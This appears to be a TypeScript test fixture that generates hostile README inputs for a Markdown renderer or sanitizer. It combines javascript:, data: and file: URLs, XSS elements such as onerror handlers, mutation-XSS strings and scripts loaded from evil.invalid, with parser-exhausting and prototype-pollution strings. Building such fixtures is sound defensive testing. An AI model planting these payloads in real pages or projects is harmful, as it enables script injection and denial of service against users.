/** Addresses that run something, or lead where no README may lead. */
const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://https://example.com/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://example.com/1',
  'file:///etc/passwd',
  '//evil.invalid/x',
  'evil.invalid',
  '#/:account',
  '/1/sessions',
] as const;

/** Ways to write an address into Markdown. */
const places = [
  (url: string) => `[a](${url})`,
  (url: string) => `[a](<${url}>)`,
  (url: string) => `[a]: ${url}\n\n[a]`,
  (url: string) => `[a][b]\n\n[b]: <${url}> "t"`,
  (url: string) => `<${url}>`,
  (url: string) => `![a](${url})`,
  (url: string) => `![a][b]\n\n[b]: ${url}`,
  (url: string) => `[![a](${url})](${url})`,
  (url: string) => `<a href="${url}">a</a>`,
  (url: string) => `<img src="${url}">`,
] as const;

/** HTML that runs a script in a page which takes it for HTML. */
const elements = [
  '<script>alert(1)</script>',
  '<script src="https://evil.invalid/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.invalid/x">',
  '<form action="https://evil.invalid"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.invalid/x.css"</style>',
  '<link rel="stylesheet" href="https://evil.invalid/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
  '<base href="https://evil.invalid/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a id=__proto__ name=constructor>a</a>',
  '<a href="https://example.com" onclick=alert(1)>a</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
] as const;

/** Ways to write HTML into Markdown. */
const wraps = [
  (html: string) => html,
  (html: string) => `text ${html} text`,
  (html: string) => `# ${html}`,
  (html: string) => `- ${html}`,
  (html: string) => `> ${html}`,
  (html: string) => `\`\`\`html\n${html}\n\`\`\``,
  (html: string) => `\`${html}\``,
  (html: string) => `[${html}](https://example.com)`,
] as const;

/** Texts that only a careless parser takes long for, or recurses into. */
const shapes = [
  '['.repeat(5_000),
  '>'.repeat(3_000),
  '*a_'.repeat(3_000),
  `${'- '.repeat(300)}a`,
  '`'.repeat(5_000),
  '<'.repeat(5_000),
  '\u0000\u202e\ufeff',
  '{{constructor.constructor("alert(1)")()}}',
  '__proto__\n---\n[__proto__]: https://example.com\n\n[__proto__] [constructor] [toString]',
] as const;

/** READMEs that attack who reads them. */
export const hostileReadmes: readonly string[] = [
  ...addresses.flatMap((url) => places.map((place) => place(url))),
  ...elements.flatMap((html) => wraps.map((wrap) => wrap(html))),
  ...shapes,
];
